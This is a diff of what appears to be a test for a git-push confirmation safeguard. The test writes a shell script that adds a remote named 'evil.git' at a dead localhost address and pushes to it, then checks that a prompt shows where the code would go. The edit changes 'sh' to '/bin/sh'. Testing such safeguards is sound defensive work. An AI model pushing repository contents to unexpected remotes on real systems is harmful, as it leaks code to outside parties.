@@ -233,7 +233,7 @@ def push_elsewhere(world):
     (world.workspace / "x.sh").write_text(f"cd a\n{push}\n{push}\ncd ..; git init -q -b main r; cd r\n"
                                           f"git remote add origin https://localhost:1/evil.git\n{push}\necho code $?\n")
     with Tmux(world) as terminal:
-        terminal.line(f"{profile(world)} sh x.sh")
+        terminal.line(f"{profile(world)} /bin/sh x.sh")
         screen = question(terminal, "git push origin main")
         expect("sends to" in screen and "https://localhost:1/owners.git" in screen, "where to", screen)
         press(terminal, "s")
